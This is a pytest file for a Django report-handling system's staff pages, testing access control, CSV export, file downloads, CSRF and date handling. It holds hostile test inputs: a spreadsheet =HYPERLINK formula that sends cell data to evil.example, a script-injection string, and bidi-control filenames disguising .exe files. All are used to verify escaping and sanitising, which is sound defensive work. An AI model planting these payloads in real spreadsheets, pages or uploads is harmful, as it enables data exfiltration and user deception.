"""The handlers' pages over HTTP: who gets what, what renders inert, the CSV, query counts."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tabyin.core.enums import Role
from tabyin.core.models import User
from tabyin.reports.cases import services as services_case
from tabyin.reports.crypto import sodium, storage
from tabyin.reports.enums import CaseStatus
from tabyin.reports.models import Message, Note, Report, ReportFile
from tests import factories
from tests.conftest import verified_client
from tests.reports import helpers
from tests.reports.test_case_services import CANARY, opened, report_for_tehran

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("in_english")]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me") and the rest of the description'
SCRIPT = "<script>alert('x')</script> the clerk demanded money for the stamp"


def handler_client(user: User) -> Client:
    client = verified_client(user)
    client.post(reverse("reports:keys"), {"action": "unlock", "unlock-passphrase": helpers.PASSPHRASE})
    return client


def urls(report: Report, file_id: int) -> list[tuple[str, str]]:
    return [
        ("get", reverse("reports:case", args=[report.pk])),
        ("get", reverse("reports:staff-file", args=[report.pk, file_id])),
        ("post", reverse("reports:case-action", args=[report.pk])),
        ("get", reverse("reports:identity-request", args=[report.pk])),
    ]


@pytest.mark.parametrize(
    ("username", "unit_code"), [("t.insp", "ir-23-inspection"), ("g.sec", "ir-01-security")]
)
def test_a_handler_of_another_unit_or_province_gets_404(
    tehran_security: User, username: str, unit_code: str
) -> None:
    report, _code = report_for_tehran(files=[("evidence.pdf", helpers.PDF)])
    file_id = ReportFile.objects.get().pk
    other = factories.persona(username, unit_code, Role.CASE_HANDLER)
    helpers.keys_for(other)
    client = handler_client(other)
    for method, url in urls(report, file_id):
        response = getattr(client, method)(url, {"action": "status", "status-status": "closed_substantiated"})
        assert response.status_code == 404, url  # as for a missing report (test_not_yours_is_404)
        assert CANARY not in response.content.decode()
    export = client.get(reverse("reports:export"))
    assert export.status_code == 200
    assert list(csv.reader(io.StringIO(export.content.decode())))[1:] == []
    inbox = client.get(reverse("reports:inbox")).content.decode()
    assert f'data-report="{report.pk}"' not in inbox
    assert Report.objects.get().status == CaseStatus.RECEIVED


@pytest.mark.abuse
def test_an_administrator_gets_nothing_anywhere(tehran_security: User, hq_admin: User) -> None:
    report, _code = report_for_tehran(files=[("evidence.pdf", helpers.PDF)])
    file_id = ReportFile.objects.get().pk
    client = verified_client(hq_admin)
    pages = [
        *urls(report, file_id),
        ("get", reverse("reports:inbox")),
        ("get", reverse("reports:export")),
        ("get", reverse("reports:keys")),
        ("get", reverse("reports:identity-queue")),
        ("post", reverse("reports:keys-share")),
        ("get", f"/en/staff/admin/reports/report/{report.pk}/change/"),
    ]
    for method, url in pages:
        response = getattr(client, method)(url, {"action": "note", "note-body": "x"})
        assert response.status_code in (302, 403, 404), url
        assert CANARY not in response.content.decode(), url
    assert not Note.objects.exists()


def test_the_inbox_lists_plain_columns_only(tehran_security: User) -> None:
    report, _code = report_for_tehran()
    Report.objects.filter(pk=report.pk).update(due_at=report.received_at.replace(year=2020))
    client = verified_client(tehran_security)
    page = client.get(reverse("reports:inbox")).content.decode()
    assert f'data-report="{report.pk}" class="rps-overdue"' in page
    assert "Bribery or an improper demand for money" in page
    assert "Your key is locked" in page
    assert CANARY not in page
    assert (
        f'data-report="{report.pk}"'
        not in client.get(reverse("reports:inbox"), {"status": "closed"}).content.decode()
    )


def test_the_inbox_costs_the_same_queries_for_one_or_five_reports(
    tehran_security: User, django_assert_num_queries: Any
) -> None:
    from tabyin.reports.cases import selectors as selectors_staff

    def count() -> int:
        fresh = User.objects.get(pk=tehran_security.pk)  # no cached scope
        with django_assert_num_queries(2):
            return len(selectors_staff.inbox(fresh).rows)

    report_for_tehran()
    assert count() == 1
    for _ in range(4):
        report, _code = report_for_tehran()
    Message.objects.create(report=report, author="reporter", body=b"x")
    services_case.assign(actor=tehran_security, report=report, assignee=tehran_security)
    assert count() == 5


@pytest.mark.abuse
def test_hostile_text_renders_inert_in_the_case_page(tehran_security: User) -> None:
    report, _code = report_for_tehran(
        what=SCRIPT, who=FORMULA, files=[("invoice\u202egpj.exe.pdf", helpers.PDF)]
    )
    # A label stored before the intake stripped controls must still show inert.
    case_key = services_case.content_key(tehran_security, opened(tehran_security), report)[1]
    ReportFile.objects.create(
        report=report,
        storage_name=storage.write(case_key, helpers.PDF),
        name=sodium.encrypt(case_key, "old\u202etxt.exe".encode()),
        content_type="application/pdf",
        size=len(helpers.PDF),
    )
    page = handler_client(tehran_security).get(reverse("reports:case", args=[report.pk])).content.decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "\u202e" not in page
    assert "invoicegpj.exe.pdf" in page and "oldtxt.exe" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page  # shown as text, escaped


@pytest.mark.abuse
def test_the_csv_is_formula_safe_and_strips_bidi_controls(tehran_security: User) -> None:
    report_for_tehran(what=FORMULA)
    report_for_tehran(what="+98 912 called \u202eevil\u202c and asked for money twice")
    response = handler_client(tehran_security).get(reverse("reports:export"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="reports-inbox.csv"'
    text = response.content.decode()
    assert not text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "Case" and len(rows) == 3
    assert sorted(r[-1] for r in rows[1:]) == [
        "'+98 912 called evil and asked for money twice",
        "'" + FORMULA,
    ]
    assert "\u202e" not in text and "\u202c" not in text
    bom = handler_client(tehran_security).get(reverse("reports:export"), {"bom": "1"})
    assert bom.content.startswith("\ufeff".encode())


def test_export_and_actions_need_the_key(tehran_security: User) -> None:
    report, _code = report_for_tehran()
    client = verified_client(tehran_security)
    response = client.get(reverse("reports:export"))
    assert response.status_code == 302 and "/keys/" in response["Location"]
    action = client.post(
        reverse("reports:case-action", args=[report.pk]), {"action": "note", "note-body": "x"}
    )
    assert action["Location"] == reverse("reports:keys") + f"?next=%2Fen%2Fstaff%2Freports%2F{report.pk}%2F"
    assert not Note.objects.exists()


def test_a_file_is_always_an_attachment_with_our_name(tehran_security: User) -> None:
    report, _code = report_for_tehran(files=[("<b>x</b>.pdf", helpers.PDF)])
    found = ReportFile.objects.get()
    response = handler_client(tehran_security).get(reverse("reports:staff-file", args=[report.pk, found.pk]))
    assert response.content == helpers.PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="report-{report.pk}-file-{found.pk}.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert "no-store" in response["Cache-Control"]
    missing = handler_client(tehran_security).get(
        reverse("reports:staff-file", args=[report.pk, found.pk + 99])
    )
    assert missing.status_code == 404


def test_case_actions_through_the_page(tehran_security: User, tehran_inspection: User) -> None:
    report, code = report_for_tehran()
    client = handler_client(tehran_security)
    action = reverse("reports:case-action", args=[report.pk])

    assert client.post(action, {"action": "note", "note-body": "یادداشت آزمایشی"}).status_code == 302
    empty = client.post(action, {"action": "message", "message-body": "\u202e\u202c"})
    assert empty.status_code == 400 and "Write a message first." in empty.content.decode()
    sent = client.post(
        action,
        {
            "action": "message",
            "message-body": "لطفاً رسید را بفرستید",
            "message-upload": [SimpleUploadedFile("form.pdf", helpers.PDF)],
        },
    )
    assert sent.status_code == 302
    assert client.post(action, {"action": "status", "status-status": "investigating"}).status_code == 302
    assert (
        client.post(action, {"action": "assign", "assign-assignee": str(tehran_security.pk)}).status_code
        == 302
    )
    assert client.post(action, {"action": "deadline", "deadline-due": "۱۴۲۰/۰۱/۱۵"}).status_code == 302
    bad_date = client.post(action, {"action": "deadline", "deadline-due": "1405/13/40"})
    assert bad_date.status_code == 400 and "Type a Jalali date" in bad_date.content.decode()
    assert client.post(action, {"action": "hold", "hold-on": "on", "hold-reason": "court"}).status_code == 302
    report.refresh_from_db()
    assert (report.status, report.assignee, report.legal_hold) == ("investigating", tehran_security, True)
    assert report.due_at.isoformat() == "2041-04-03T20:29:00+00:00"  # 23:59 in Tehran
    page = client.get(reverse("reports:case", args=[report.pk])).content.decode()
    assert "یادداشت آزمایشی" in page and "لطفاً رسید را بفرستید" in page and "form.pdf" in page

    moved = client.post(
        action,
        {
            "action": "transfer",
            "transfer-unit": str(factories.unit("ir-23-inspection").pk),
            "transfer-reason": "inspection",
        },
    )
    assert moved.status_code == 302 and moved["Location"] == reverse("reports:inbox")
    assert client.get(reverse("reports:case", args=[report.pk])).status_code == 404
    assert handler_client(tehran_inspection).get(reverse("reports:case", args=[report.pk])).status_code == 200
    assert code


@pytest.mark.abuse
def test_a_handlers_attachment_stays_in_memory_and_csrf_still_guards_the_action(
    tehran_security: User, monkeypatch: pytest.MonkeyPatch, settings: Any
) -> None:
    from django.core.files import uploadedfile

    report, _code = report_for_tehran()
    client = handler_client(tehran_security)
    action = reverse("reports:case-action", args=[report.pk])
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024

    def no_temporary_file(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("an attachment was spooled to a temporary file")

    monkeypatch.setattr(uploadedfile.TemporaryUploadedFile, "__init__", no_temporary_file)
    sent = client.post(
        action,
        {
            "action": "message",
            "message-body": "فرم را پر کنید",
            "message-upload": [SimpleUploadedFile("form.pdf", helpers.big_pdf(200_000))],
        },
    )
    assert sent.status_code == 302
    assert list(ReportFile.objects.values_list("size", flat=True)) == [200_000]

    forged = Client(enforce_csrf_checks=True)
    forged.cookies = client.cookies
    refused = forged.post(action, {"action": "note", "note-body": "بدون توکن"})
    assert refused.status_code == 403
    assert not Note.objects.exists()
